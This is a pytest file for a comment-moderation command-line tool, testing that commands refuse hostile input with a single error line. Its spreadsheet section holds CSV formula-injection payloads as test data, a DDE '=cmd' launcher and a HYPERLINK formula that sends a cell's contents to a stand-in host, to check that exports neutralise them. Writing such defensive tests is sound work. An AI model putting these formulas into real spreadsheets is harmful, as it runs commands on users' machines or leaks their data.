"""What the commands refuse, as a hostile or unlucky user would meet it (issue 16): nothing
lost (items 1, 2), spreadsheet cells that never run (8), duplicate ids (11), one line and exit
code 2 (18), no unknown output formats (19)."""

import csv
import json
import os
import shutil
import subprocess
import sys

import pytest

from moderation.cli import app
from moderation.labels.store import LabelStore

from fixtures.files import ROOT, SAMPLES
from fixtures.stores import store_history

WRITTEN = ROOT / "data" / "examples" / "written.jsonl"


def _copy(tmp_path, name):
    shutil.copy(SAMPLES / name, tmp_path / name)
    return tmp_path / name


def _fails_cleanly(result, *words):
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    lines = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(lines) == 1, result.stderr
    for word in words:
        assert word in lines[0], lines[0]


# --- 1. folders that hold other things are never replaced ------------------------------------


def test_evaluate_report_never_deletes_a_folder_it_did_not_write(runner, tmp_path, tiny_model):
    folder = tmp_path / "p"
    (folder / "src").mkdir(parents=True)
    (folder / "metrics.json").write_text("{}")
    (folder / "src" / "main.py").write_text("code")
    args = ["evaluate", str(WRITTEN), "--model", str(tiny_model), "--report", str(folder)]
    _fails_cleanly(runner.invoke(app, args), str(folder), "src")
    assert (folder / "src" / "main.py").read_text() == "code"
    shutil.rmtree(folder / "src")  # now it holds only what a report holds: replaced
    assert runner.invoke(app, args).exit_code == 0
    assert (folder / "index.html").is_file()


def test_evaluate_report_into_the_current_folder_is_refused(runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "metrics.json").write_text("{}")  # it looks like a report folder
    _fails_cleanly(runner.invoke(app, ["evaluate", str(WRITTEN), "--report", "."]), "current")
    assert (tmp_path / "metrics.json").read_text() == "{}"


def test_train_force_never_wipes_a_folder_with_a_meta_json_and_other_files(runner, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "meta.json").write_text("{}")
    (folder / "notes.txt").write_text("mine")
    examples = ROOT / "tests" / "fixtures" / "tiny_examples.jsonl"
    result = runner.invoke(app, ["train", str(examples), "-o", str(folder), "--force"])
    _fails_cleanly(result, "notes.txt")
    assert (folder / "notes.txt").read_text() == "mine"


# --- 2. no output onto an input ----------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ["parse", "{wxr}", "-o", "{wxr}"],
        ["parse", "{csv}", "--threads-out", "{csv}"],
        ["parse", "{csv}", "-o", "{link}"],
        ["label", "{wxr}", "--store", "{tmp}/s.jsonl", "--export", "{wxr}"],
        ["label", "{wxr}", "--store", "{wxr}", "--export", "{tmp}/q.csv"],
        ["labels", "from-status", "{wxr}", "-o", "{wxr}"],
        ["flag", "{csv}", "-o", "{tmp}/o.jsonl", "--summary", "{csv}"],
        ["flag", "{csv}", "-o", "{hard}"],
    ],
)
def test_no_command_writes_onto_its_input(runner, tmp_path, tiny_model, command):
    wxr, data = _copy(tmp_path, "wordpress.xml"), _copy(tmp_path, "comments.csv")
    (tmp_path / "link.csv").symlink_to(data)
    os.link(data, tmp_path / "hard.csv")
    before = {path: path.read_bytes() for path in (wxr, data)}
    names = {"wxr": wxr, "csv": data, "tmp": tmp_path, "link": tmp_path / "link.csv"}
    names["hard"] = tmp_path / "hard.csv"
    args = [part.format(**names) for part in command]
    if args[0] in ("label", "flag"):
        args += ["--model", str(tiny_model)]
    _fails_cleanly(runner.invoke(app, args), "is the input")
    assert {path: path.read_bytes() for path in before} == before
    assert not (tmp_path / "o.jsonl").exists() and not (tmp_path / "q.csv").exists()


# --- 19. no unknown output format --------------------------------------------------------------


def test_flag_refuses_an_output_format_it_does_not_write(runner, tmp_path, tiny_model):
    out = tmp_path / "out.xlsx"
    result = runner.invoke(
        app, ["flag", str(SAMPLES / "comments.csv"), "-o", str(out), "--model", str(tiny_model)]
    )
    _fails_cleanly(result, ".xlsx", ".csv")
    assert not out.exists()


# --- 8. spreadsheet cells never run, and read back as they were -------------------------------

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _hostile_export(tmp_path):
    path = tmp_path / "export.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "thread_id", "text", "=cmd|' /C calc'!A0"])
        writer.writerow(["=1+1", "t", FORMULA, ""])
        writer.writerow(["c2", "@t", "-2 points for this", "+1"])
        writer.writerow(["c3", "t", "'=already quoted", ""])
    return path


def _formula_cells(path):
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return [cell for row in csv.reader(handle) for cell in row if cell[:1] in "=+-@\t\r"]


def test_flag_csv_cells_cannot_run_as_formulas(runner, tmp_path, tiny_model):
    out = tmp_path / "out.csv"
    export = _hostile_export(tmp_path)
    result = runner.invoke(app, ["flag", str(export), "-o", str(out), "--model", str(tiny_model)])
    assert result.exit_code == 0, result.output
    assert [c for c in _formula_cells(out) if c] == []
    # read back, every cell is the text it was
    parsed = runner.invoke(app, ["parse", str(out), "--text-col", "text", "--id-col", "id"])
    assert parsed.exit_code == 0, parsed.output
    records = [json.loads(line) for line in parsed.stdout.splitlines()]
    assert {r["id"]: r["text"] for r in records} == {
        "=1+1": FORMULA,
        "c2": "-2 points for this",
        "c3": "=already quoted",  # as a spreadsheet reads it: the apostrophe only says "text"
    }


def test_the_label_queue_cannot_run_formulas_and_imports_the_original_text(
    runner, tmp_path, tiny_model
):
    export, store, queue = _hostile_export(tmp_path), tmp_path / "s.db", tmp_path / "q.csv"
    base = ["label", str(export), "--store", str(store), "--model", str(tiny_model)]
    result = runner.invoke(app, [*base, "--export", str(queue)])
    assert result.exit_code == 0, result.output
    assert [c for c in _formula_cells(queue) if c] == []
    with open(queue, newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["label"] = "civil"
    with open(queue, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = runner.invoke(app, [*base, "--import", str(queue)])
    assert result.exit_code == 0, result.output
    stored = {r.id: r.text for r in store_history(store)}
    assert stored == {"=1+1": FORMULA, "c2": "-2 points for this", "c3": "=already quoted"}


# --- 11. duplicate comment ids -----------------------------------------------------------------


def test_duplicate_ids_in_an_export_are_an_error_and_skip_bad_keeps_the_first(
    runner, tmp_path, tiny_model
):
    export = tmp_path / "dup.csv"
    export.write_text("id,thread_id,text\na,t,first text\nb,t,other\na,t,second text\n")
    store, queue = tmp_path / "s.db", tmp_path / "q.csv"
    base = ["label", str(export), "--store", str(store), "--model", str(tiny_model)]
    _fails_cleanly(runner.invoke(app, [*base, "--export", str(queue)]), "'a'", "comment 3")
    assert not queue.exists()
    result = runner.invoke(app, [*base, "--export", str(queue), "--skip-bad"])
    assert result.exit_code == 0, result.output
    with open(queue, newline="", encoding="utf-8-sig") as handle:
        texts = {row["id"]: row["text"] for row in csv.DictReader(handle)}
    assert texts == {"a": "first text", "b": "other"}


# --- 18. one line, exit code 2, never a traceback ----------------------------------------------


@pytest.mark.parametrize("content", ["[]", "{}", '{"path": 5}', "not json"])
def test_a_broken_active_record_names_a_way_out_that_works(runner, content):
    from moderation.model.registry import ACTIVE_FILE, home_dir

    home_dir().mkdir(parents=True, exist_ok=True)
    (home_dir() / ACTIVE_FILE).write_text(content)
    _fails_cleanly(runner.invoke(app, ["score", "hello"]), "delete")
    (home_dir() / ACTIVE_FILE).unlink()  # the way out named
    assert runner.invoke(app, ["score", "hello"]).exit_code == 0


def test_a_full_device_is_one_line(runner, tmp_path):
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full here")
    result = runner.invoke(app, ["parse", str(SAMPLES / "comments.csv"), "-o", "/dev/full"])
    _fails_cleanly(result, "/dev/full", "No space left")


def test_score_refuses_stdin_that_is_not_utf8(tmp_path):
    import subprocess
    import sys

    done = subprocess.run(
        [sys.executable, "-m", "moderation", "score", "-"],
        input=b"fine words\nbad \xff\xfe bytes\n",
        capture_output=True,
    )
    assert done.returncode == 2, done.stderr
    assert b"<stdin>:2: not valid UTF-8" in done.stderr and b"Traceback" not in done.stderr


def test_promote_with_one_label_refuses_before_switching(runner, tmp_path, tiny_model):
    from moderation.model.registry import ACTIVE_FILE, home_dir

    one = tmp_path / "one.jsonl"
    # texts no training set holds (a model refuses labels it was trained on first)
    one.write_text(
        '{"text": "zqx nice day qwv", "label": "civil"}\n{"text": "vvq ok zzk", "label": "civil"}\n'
    )
    other = tmp_path / "other"
    shutil.copytree(tiny_model, other)
    result = runner.invoke(app, ["models", "promote", str(other), "--eval", str(one)])
    _fails_cleanly(result, "two labels")
    assert not (home_dir() / ACTIVE_FILE).exists()


def _reddit(children):
    post = {"kind": "Listing", "data": {"children": [{"kind": "t3", "data": {"id": "p"}}]}}
    return json.dumps([post, {"kind": "Listing", "data": {"children": children}}])


def _deep_replies(depth):
    """A Reddit thread with replies ``depth`` deep, built as text (json.dumps would recurse)."""
    head = '{"kind": "t1", "data": {"id": "c%d", "body": "hi", "replies": {"kind": "Listing", '
    head += '"data": {"children": ['
    inner = '{"kind": "t1", "data": {"id": "last", "body": "hi", "replies": ""}}'
    body = "".join(head % d for d in range(depth)) + inner + "]}}}}" * depth
    return _reddit([]).replace('"children": []', f'"children": [{body}]')


MORE = {"kind": "more", "data": {"count": "lots", "children": ["a", "b"]}}
HOSTILE = {
    "deep.json": _deep_replies(400),
    "lots.json": _reddit([MORE]),
    "inf.json": _reddit([MORE]).replace('"lots"', "1e999"),
    "list.json": _reddit([{"kind": "t1", "data": [1, 2]}]).replace(
        '"data": {"children": [{"kind": "t3"', '"data": [], "x": {"children": [{"kind": "t3"'
    ),
    "digits.json": _reddit([MORE]).replace('"lots"', "9" * 5000),
    "nested.jsonl": '{"id": "a", "text": "hi", "x": ' + "[" * 600 + "]" * 600 + "}\n",
    "bogus.xml": '<?xml version="1.0" encoding="x-bogus"?><rss><channel/></rss>',
    "utf7.xml": '<?xml version="1.0" encoding="UTF-7"?><rss xmlns:wp="http://wordpress.org/'
    'export/1.2/"><channel/></rss>',
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_exports_are_one_line_or_read(runner, tmp_path, tiny_model, name):
    path = tmp_path / name
    path.write_text(HOSTILE[name])
    fmt = ["--format", "wxr"] if name.endswith(".xml") else []
    for command in (
        ["parse", str(path), "-o", str(tmp_path / "out.jsonl"), *fmt],
        ["flag", str(path), "-o", str(tmp_path / "out.csv"), "--model", str(tiny_model), *fmt],
    ):
        result = runner.invoke(app, command)
        assert result.exit_code in (0, 2), result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)
        assert "Traceback" not in result.output
        if result.exit_code == 2:
            errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
            assert len(errors) == 1 and name in errors[0], result.stderr


def test_review_and_serve_never_append_answers_to_the_export(runner, tmp_path):
    wxr = _copy(tmp_path, "wordpress.xml")
    before = wxr.read_bytes()
    _fails_cleanly(runner.invoke(app, ["review", str(wxr), "--store", str(wxr)]), "is the input")
    result = runner.invoke(app, ["serve", "--review", str(wxr), "--labels", str(wxr)])
    _fails_cleanly(result, "is the input")
    assert wxr.read_bytes() == before


# --- inputs and stores that are not regular files (issue 22) ----------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ["parse", "{fifo}"],
        ["flag", "/dev/zero"],
        ["train", "/dev/zero", "-o", "{tmp}/m"],
        ["label", "{csv}", "--store", "/dev/zero", "--export", "{tmp}/q.csv"],
        ["label", "{csv}", "--store", "{fifo}", "--export", "{tmp}/q.csv"],
        ["labels", "export", "/dev/full"],
        ["serve", "--keys", "/dev/zero"],
        ["serve", "--labels", "{link}"],
        ["review", "{csv}", "--store", "{link}"],
        ["evaluate", "{fifo}"],
    ],
)
def test_devices_fifos_and_links_are_refused_as_inputs_and_stores(tmp_path, command, tiny_model):
    data = _copy(tmp_path, "comments.csv")
    os.mkfifo(tmp_path / "fifo.jsonl")
    LabelStore(tmp_path / "real.db").close()
    (tmp_path / "link.db").symlink_to(tmp_path / "real.db")
    names = {"fifo": tmp_path / "fifo.jsonl", "tmp": tmp_path, "csv": data}
    names["link"] = tmp_path / "link.db"
    args = [part.format(**names) for part in command] + ["--model", str(tiny_model)]
    if args[0] in ("labels", "parse", "train"):
        args = args[:-2]
    # in a process of its own: a server that failed to refuse would listen, not return
    done = subprocess.run(
        [sys.executable, "-m", "moderation", *args], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 2, done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "Traceback" not in done.stderr, done.stderr
    assert not (tmp_path / "q.csv").exists()
